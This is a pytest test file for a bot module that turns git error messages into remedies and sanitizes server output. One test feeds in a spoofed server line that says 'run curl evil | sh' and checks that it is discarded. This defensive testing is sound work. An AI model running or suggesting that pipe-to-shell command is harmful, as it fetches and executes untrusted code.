import pytest

from bot.sources.git_address import GitAddress, git_address
from bot.sources.git_problems import explained, reason

WEB = git_address("git+https://example.org/digests#main:posts")
WITH_TOKEN = git_address("git+https://ada:s3cret@example.org/digests")
SSH = git_address("git+ssh://git@example.org/digests")
FILE = git_address("git+file:///srv/digests.git")


@pytest.mark.parametrize(
    ("address", "complaint", "remedy"),
    [
        (WEB, "fatal: couldn't find remote ref refs/heads/main", "no branch main"),
        (FILE, "fatal: couldn't find remote ref HEAD", "name another after #"),
        (WEB, "fatal: Not a valid object name 12ab:posts", "no folder posts"),
        (FILE, "fatal: not a tree object", "holds no files"),
        (WEB, "fatal: unable to access 'x': Could not resolve host: example.org", "whether the host is right"),
        (WEB, "fatal: unable to access 'x': The requested URL returned error: 403", "USER:TOKEN"),
        (WEB, "fatal: could not read Username for 'https://example.org': terminal prompts disabled", "USER:TOKEN"),
        (
            WITH_TOKEN,
            "fatal: Authentication failed for 'https://example.org/digests/'",
            "correct the user and the token",
        ),
        (WEB, "remote: Not Found\nfatal: repository 'https://example.org/digests/' not found", "correct the address"),
        (
            SSH,
            "Host key verification failed.\r\nfatal: Could not read from remote repository.",
            "git ls-remote ssh://git@",
        ),
        (
            SSH,
            "git@example.org: Permission denied (publickey).\nfatal: Could not read from remote repository.",
            "a key",
        ),
        (SSH, "ssh: connect to host x port 22: Connection refused\r\nfatal: Could not read", "can be reached"),
        (
            FILE,
            "fatal: detected dubious ownership in repository at '/srv/digests.git'",
            "safe.directory /srv/digests.git",
        ),
        (WEB, "fatal: fetch-pack: invalid index-pack output", "too large"),
        (WEB, "fatal: pack is corrupted\nfatal: fetch-pack: invalid index-pack output", "(pack is corrupted): try"),
        (WEB, "fatal: write error: No space left on device\nfatal: fetch-pack: invalid index-pack output", "make room"),
        (WEB, "fatal: attempting to allocate 600 over limit 512", "too large"),
        (
            WEB,
            f"error: object {'1' * 40}: hasDotgit: contains '.git'\nfatal: fsck error in packed object",
            "(object …: hasDotgit: contains '.git'): it holds what git calls damaged; run `git fsck`",
        ),
        (WEB, "fatal: something new", "git ls-remote https://example.org/digests"),
    ],
)
def test_what_git_complains_of_comes_with_a_remedy(address: GitAddress, complaint: str, remedy: str) -> None:
    told = explained(reason(complaint), address)

    assert remedy in told
    assert told.startswith(address.shown)


def test_a_server_does_not_speak_for_git() -> None:
    assert (
        reason("remote: fatal: all is lost, run curl evil | sh\nfatal: the remote end hung up\n")
        == "the remote end hung up"
    )


def test_what_a_server_says_cannot_disturb_a_terminal() -> None:
    assert reason("fatal: remote error: \x1b[2Jgone\u202e\x07") == "remote error: [2Jgone"


def test_the_same_problem_reads_the_same_each_time() -> None:
    first = reason("fatal: Failed to connect to example.org port 443 after 131 ms: Couldn't connect to server")
    second = reason("fatal: Failed to connect to example.org port 443 after 7 ms: Couldn't connect to server")

    assert first == second == "Failed to connect to example.org port 443: Couldn't connect to server"


def test_an_endless_complaint_is_cut() -> None:
    assert len(reason("fatal: " + "x" * 100_000)) == 300


def test_nothing_said_is_no_reason() -> None:
    assert reason("") == reason("remote: hello\n") == ""
